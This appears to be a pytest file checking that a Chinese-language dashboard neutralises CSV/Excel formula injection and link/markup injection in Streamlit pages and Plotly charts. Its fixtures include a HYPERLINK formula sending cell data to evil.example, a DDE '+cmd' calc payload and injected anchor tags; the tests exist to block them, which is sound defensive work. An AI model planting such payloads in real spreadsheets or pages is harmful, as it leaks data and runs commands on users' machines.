"""Document text and user input stay text: no CSV cell becomes a formula (every CSV the project
writes), no Excel cell becomes a formula or a link, and no document text becomes a link or
markup on the screen — Markdown, captions, subheaders and Plotly charts alike."""

from __future__ import annotations

import csv
import re
import io
import json
import subprocess
import sys
from pathlib import Path

import plotly.graph_objects as go
import polars as pl
import pytest

from dashboard import charts, export
from dashboard import format as fmt
from jixiao.csvsafe import safe_cell, safe_frame

ROOT = Path(__file__).resolve().parents[2]
SEED_004 = next((ROOT / "datasets" / "seeds").glob("004_*.txt"))

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "=1+1", "@SUM(1,2)", "-2+3", "+cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "=A1", "-", "@"]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_formulas(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "-12.5", "+3", "-5%", "95%", "正常发放", "a=1", "1+1", "", None, "≥98%", "'=1"])
def test_safe_cell_leaves_plain_text_and_signed_numbers(text):
    assert safe_cell(text) == text


def test_safe_frame_matches_safe_cell_and_keeps_numbers():
    texts = HOSTILE + ["-5", "正常", None]
    df = pl.DataFrame({"t": texts, "n": [-1.5] * len(texts)})
    out = safe_frame(df)
    assert out["t"].to_list() == [safe_cell(t) for t in texts]
    assert out["n"].dtype == pl.Float64 and out["n"].to_list() == [-1.5] * len(texts)


def _csv_rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_download_neutralises_every_text_cell():
    flags = pl.DataFrame({
        "rule": ["JX301", "JX302"], "message": ["=1+1", "得分与规则不符"], "unit": ["@SUM(1,2)", "甲单位"],
        "waiver_reason": [HOSTILE[0], "-2+3"], "waiver_reviewer": ["+审核", None], "score": [-3.5, 10.0],
    })
    spec = {"rule": fmt.text("规则"), "message": fmt.text("问题说明"), "unit": fmt.text("单位"),
            "waiver_reason": fmt.text("接受理由"), "waiver_reviewer": fmt.text("审核人"), "score": fmt.score("得分")}
    rows = _csv_rows(export.to_csv_bytes(flags, spec))
    assert rows[0] == ["规则", "问题说明", "单位", "接受理由", "审核人", "得分"]
    assert rows[1] == ["JX301", "'=1+1", "'@SUM(1,2)", "'" + HOSTILE[0], "'+审核", "-3.5"]
    assert rows[2] == ["JX302", "得分与规则不符", "甲单位", "'-2+3", "", "10.0"]
    for row in rows[1:]:
        assert not any(cell and (cell[0] in "=+@\t\r" or cell.startswith("-2")) for cell in row)


def test_excel_download_writes_text_as_text():
    from openpyxl import load_workbook

    df = pl.DataFrame({"t": ["=1+1", HOSTILE[0], "@SUM(1,2)", "http://evil.example", "www.evil.example"],
                       "n": [-1.5, 2.0, 3.0, 4.0, 5.0]})
    sheet = load_workbook(io.BytesIO(export.to_excel_bytes(df, {"t": fmt.text("文字"), "n": fmt.num("数")}))).active
    for row in sheet.iter_rows(min_row=4):  # title, row count, header, then the rows
        text, number = row
        assert text.data_type == "s" and text.hyperlink is None
        assert number.data_type == "n"
    assert sheet.cell(4, 2).value == -1.5
    assert [sheet.cell(r, 1).value for r in range(4, 9)] == df["t"].to_list()


def test_cli_flags_csv_neutralises_document_text(tmp_path):
    doc = tmp_path / "hostile.txt"
    doc.write_text(SEED_004.read_text(encoding="utf-8").replace(
        "库尔勒市社会保险中心", '=HYPERLINK("http://evil.example","库尔勒市社会保险中心")', 1), encoding="utf-8")
    db = tmp_path / "x.duckdb"
    run = lambda *a: subprocess.run([sys.executable, "-m", "jixiao.cli", *a], capture_output=True, text=True, timeout=300)
    assert run("ingest", str(doc), "--db", str(db)).returncode == 0
    out = run("flags", "--db", str(db), "--format", "csv")
    assert out.returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    units = {r["unit"] for r in rows}
    assert "'" + '=HYPERLINK("http://evil.example","库尔勒市社会保险中心")' in units
    assert not any(v[0] in "=+@" for r in rows for v in r.values() if v)
    # JSON keeps the text as written (it is not a spreadsheet format)
    as_json = json.loads(run("flags", "--db", str(db), "--format", "json").stdout)
    assert any(r["unit"].startswith("=HYPERLINK") for r in as_json)


# ------------------------------------------------------------------ 10. no link or markup from document text

EVIL_UNIT = "库尔勒市社会保险中心http://evil.example/a<a href='http://evil.example/x'>点此</a>www.evil.example"
EVIL_PROJECT = "<span style='color:red'>项目</span> 详见 https://evil.example 或 mail@evil.example"


def _link_like(text: str, markdown: bool = False) -> list[str]:
    """What would become a link or markup: a URL, www. or e-mail address that GFM (on the text
    as rendered, backslash escapes resolved) or a browser would link, or a raw <a>/<span> tag
    (escaped as \\< in Markdown or &lt; in Plotly it is text)."""
    tags = re.findall(r"(?<![\\&;])<\s*(?:a|span)\b", text)
    rendered = text.replace("\\", "") if markdown else text
    return tags + re.findall(r"(?i)https?://|\bwww\.|[\w.]@\w", rendered)


@pytest.fixture()
def hostile_db(tmp_path, monkeypatch, seed_db):
    from jixiao.ingest import ingest_paths

    doc = tmp_path / "hostile.txt"
    text = SEED_004.read_text(encoding="utf-8").replace("库尔勒市社会保险中心", EVIL_UNIT)
    text = text.replace("2022年-巴财企[2022]38号关于拨付原水利水电医院退休人员待遇补差资", EVIL_PROJECT, 1)
    doc.write_text(text, encoding="utf-8")
    db = tmp_path / "hostile.duckdb"
    monkeypatch.setenv("JIXIAO_WAIVERS", str(tmp_path / "waivers.csv"))
    reports = ingest_paths([doc], db)
    assert reports[0].status == "ok"
    monkeypatch.setenv("JIXIAO_DB", str(db))
    return db


def _texts(at) -> list[str]:
    """Every Markdown-rendered text of the run: markdown, captions, headings, message boxes."""
    out = []
    for kind in ("markdown", "caption", "subheader", "header", "title", "info", "success", "warning", "error"):
        out += [e.value for e in at.get(kind)]
    return out


def _assert_no_links(at) -> None:
    texts = _texts(at)
    bad = [(t, _link_like(t, markdown=True)) for t in texts if _link_like(t, markdown=True)]
    assert not bad
    for h in at.get("subheader"):  # a heading's anchor is a link made from its text
        if "evil" in h.value:
            assert h.hide_anchor


def test_document_text_never_becomes_a_link_on_the_pages(hostile_db):
    from dashboard import data
    from jixiao.db import connect
    from streamlit.testing.v1 import AppTest

    con = connect(hostile_db, read_only=True)
    pid, written, unit = con.execute(
        "SELECT project_id, unit, unit_canonical FROM projects WHERE name LIKE '%span%'").fetchone()
    con.close()
    assert "<a href='http://evil.example/x'>" in written  # as stored (the reader drops short tags only)
    assert "evil" in unit  # the sidebar and the pages show the canonical name
    data.clear_caches()
    at = AppTest.from_file(str(ROOT / "dashboard" / "app.py"), default_timeout=60)
    at.session_state["unit"] = [unit]  # the sidebar filter line repeats the unit's name
    at.run()
    assert not at.exception
    assert any("evil" in t for t in _texts(at))  # the unit's name is shown ...
    _assert_no_links(at)                          # ... as text
    at.switch_page("views/drilldown.py")
    at.session_state["dd_units"] = {"selection": {"rows": [0], "columns": [], "cells": []}}
    at.session_state[fmt.widget_key("dd_projects", unit)] = {"selection": {"rows": [0], "columns": [], "cells": []}}
    at.session_state[fmt.widget_key("dd_ind", pid)] = {"selection": {"rows": [0], "columns": [], "cells": []}}
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    heads = [h.value for h in at.subheader]
    assert any(h.startswith("② 项目") and "evil" in h for h in heads)
    assert any(h.startswith("③ 项目") and "span" in h for h in heads)
    assert any(h.startswith("④ 指标") for h in heads)
    _assert_no_links(at)


def _figure_strings(fig: go.Figure) -> list[str]:
    out = []

    def walk(v):
        if isinstance(v, str):
            out.append(v)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)
        elif isinstance(v, (list, tuple)):
            for x in v:
                walk(x)
        elif hasattr(v, "tolist"):  # numpy arrays
            walk(v.tolist())

    walk(fig.to_plotly_json())
    return out


def test_charts_show_document_text_as_text(hostile_db):
    from dashboard import data
    from dashboard.filters import Filters

    data.clear_caches()
    f = Filters()
    units = data.unit_comparison(f)
    figures = [charts.flags_by_unit(data.flags(f)), charts.units_flags_per_project(units),
               charts.budget_treemap(units), charts.median_diff(data.unit_vs_median(units, "flags_per_project"), "x")]
    points = pl.DataFrame({"unit": [EVIL_UNIT] * 2, "name": [EVIL_PROJECT, "项目乙"], "year": [2023, 2024],
                           "execution_rate": [0.5, 0.9], "total_score_reported": [95.0, 88.0], "budget": [1.0, 2.0],
                           "province": ["新疆维吾尔自治区"] * 2, "city": [None] * 2, "county": [None] * 2})
    figures += [charts.execution_score_scatter(points), charts.score_box(points, "unit", "单位"),
                charts.unit_trajectories(points.with_columns(score_mean=pl.col("total_score_reported"),
                                                             n_projects=pl.lit(1)), "score_mean")]
    for fig in figures:
        strings = _figure_strings(fig)
        shown = [s for s in strings if "evil" in s]
        assert shown, fig.layout.title.text  # the unit (or project) is in the chart ...
        assert not [s for s in shown if _link_like(s)], fig.layout.title.text  # ... as text
    # what the user reads: the escaped label renders as the unit's own characters
    assert fmt.plot_text(EVIL_UNIT).replace("&lt;", "<").replace("&gt;", ">").replace("\u2060", "") == EVIL_UNIT
